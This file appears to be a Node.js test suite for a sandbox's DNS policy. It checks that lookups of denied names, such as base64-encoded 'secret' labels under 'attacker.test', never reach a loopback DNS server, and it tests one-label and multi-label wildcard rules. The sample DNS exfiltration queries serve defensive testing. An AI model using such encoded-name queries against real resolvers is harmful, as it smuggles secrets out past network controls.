/**
 * DNS: a name may be resolved only when some rule could connect to it, so data cannot leave encoded in a
 * queried name. The proof is a real DNS server on loopback that records every query: a denied name must not
 * appear there at all. Covers new dns.Resolver(), dns.promises.Resolver, the module-level functions after
 * dns.setServers(), dns.lookup, and `*` (one label) against `**` (any number of labels) in rule hosts.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { runGuarded } from '../helpers.js';
import { type DnsServer, startDnsServer } from '../servers/dns.js';
import { PROBE_FILE, PROBE_SOURCE, readProbe } from '../servers/probe.js';

const SCRIPT = `import dns from 'node:dns';
import { Resolver as PromiseResolver } from 'node:dns/promises';
import probe from './probe.cjs';
const { attempt, report } = probe;
const server = '127.0.0.1:' + process.argv[2];
const SECRET_NAME = 'c2VjcmV0.attacker.test';

const resolver = new dns.Resolver({ timeout: 1000, tries: 1 });
resolver.setServers([server]);
const callback = (name) =>
  new Promise((resolve, reject) => resolver.resolve4(name, (err, addresses) => (err ? reject(err) : resolve(addresses.join()))));
await attempt('Resolver allowed', () => callback('api.allowed.test'));
await attempt('Resolver denied', () => callback('resolver.' + SECRET_NAME));
await attempt('Resolver resolveTxt denied', () =>
  new Promise((resolve, reject) => resolver.resolveTxt('txt.' + SECRET_NAME, (err) => (err ? reject(err) : resolve()))),
);

const promised = new PromiseResolver({ timeout: 1000, tries: 1 });
promised.setServers([server]);
await attempt('promises.Resolver allowed', async () => (await promised.resolve4('api.allowed.test')).join());
await attempt('promises.Resolver denied', async () => (await promised.resolve4('promises.' + SECRET_NAME)).join());
await attempt('promises.Resolver resolve denied', async () => (await promised.resolve('any.' + SECRET_NAME, 'A')).join());

dns.setServers([server]);
const moduleLevel = (name) =>
  new Promise((resolve, reject) => dns.resolve4(name, (err, addresses) => (err ? reject(err) : resolve(addresses.join()))));
await attempt('dns.resolve4 allowed', () => moduleLevel('api.allowed.test'));
await attempt('dns.resolve4 denied', () => moduleLevel('module.' + SECRET_NAME));
await attempt('dns.promises.resolve4 denied', async () => (await dns.promises.resolve4('mp.' + SECRET_NAME)).join());

await attempt('dns.lookup denied', () =>
  new Promise((resolve, reject) => dns.lookup('lookup.' + SECRET_NAME, (err, address) => (err ? reject(err) : resolve(address)))),
);
await attempt('dns.promises.lookup denied', async () => (await dns.promises.lookup('plookup.' + SECRET_NAME)).address);
await attempt('dns.lookup of an IP literal', () =>
  new Promise((resolve, reject) => dns.lookup('127.0.0.1', (err, address) => (err ? reject(err) : resolve(address)))),
);

// Wildcards: "*" is exactly one label, "**" any number (at least one).
for (const name of ['a.one.test', 'a.b.one.test', 'one.test', 'a.many.test', 'a.b.c.many.test', 'many.test']) {
  await attempt('wildcard ' + name, () => callback(name));
}
report();
`;

describe('dns', () => {
  let dnsServer: DnsServer;
  before(async () => {
    dnsServer = await startDnsServer();
  });
  after(async () => {
    await dnsServer.close();
  });

  async function run(mode: string) {
    dnsServer.queries.length = 0;
    const outcome = await runGuarded({
      policy: {
        mode,
        network: {
          allow: ['https://api.allowed.test', 'https://*.one.test', 'wss://**.many.test'],
        },
      },
      script: 'main.mjs',
      files: { 'main.mjs': SCRIPT, [PROBE_FILE]: PROBE_SOURCE },
      args: [String(dnsServer.port)],
    });
    await sleep(20);
    return { ...outcome, probe: readProbe(outcome.stdout), queries: [...dnsServer.queries] };
  }

  test('block mode: allowed names resolve through the real server; denied names never reach it', async () => {
    const r = await run('block');
    assert.equal(r.code, 0, r.stderr);
    const results = r.probe.results;
    for (const name of ['Resolver allowed', 'promises.Resolver allowed', 'dns.resolve4 allowed']) {
      assert.equal(results[name], 'ok:127.0.0.1', `${name}: ${JSON.stringify(r.probe.errors[name])}`);
    }
    for (const name of [
      'Resolver denied',
      'Resolver resolveTxt denied',
      'promises.Resolver denied',
      'promises.Resolver resolve denied',
      'dns.resolve4 denied',
      'dns.promises.resolve4 denied',
      'dns.lookup denied',
      'dns.promises.lookup denied',
    ]) {
      assert.equal(results[name], 'ERR_PERIMETER_BLOCKED', name);
    }
    assert.equal(results['dns.lookup of an IP literal'], 'ok:127.0.0.1', 'no query leaves for a literal');
    assert.ok(
      r.queries.every((q) => !q.includes('attacker')),
      `the secret-bearing name reached the DNS server: ${r.queries}`,
    );
    assert.ok(r.queries.includes('api.allowed.test A'), r.queries.join());
    const targets = r.events.map((e) => e.target);
    assert.ok(targets.includes('dns:resolver.c2vjcmv0.attacker.test'), targets.join('\n'));
  });

  test("'*' matches one label, '**' one or more", async () => {
    const r = await run('block');
    const results = r.probe.results;
    assert.equal(results['wildcard a.one.test'], 'ok:127.0.0.1');
    assert.equal(results['wildcard a.b.one.test'], 'ERR_PERIMETER_BLOCKED');
    assert.equal(results['wildcard one.test'], 'ERR_PERIMETER_BLOCKED');
    assert.equal(results['wildcard a.many.test'], 'ok:127.0.0.1');
    assert.equal(results['wildcard a.b.c.many.test'], 'ok:127.0.0.1');
    assert.equal(results['wildcard many.test'], 'ERR_PERIMETER_BLOCKED');
    assert.deepEqual(r.queries.filter((q) => q.includes('one.test') || q.includes('many.test')).sort(), [
      'a.b.c.many.test A',
      'a.many.test A',
      'a.one.test A',
    ]);
  });

  test('alert mode: denied names are resolved and recorded as alerted', async () => {
    const r = await run('alert');
    assert.equal(r.probe.results['Resolver denied'], 'ok:127.0.0.1');
    assert.ok(r.queries.includes('resolver.c2vjcmv0.attacker.test A'), r.queries.join());
    assert.ok(r.events.length > 0);
    for (const event of r.events) assert.equal(event.action, 'alerted');
  });
});
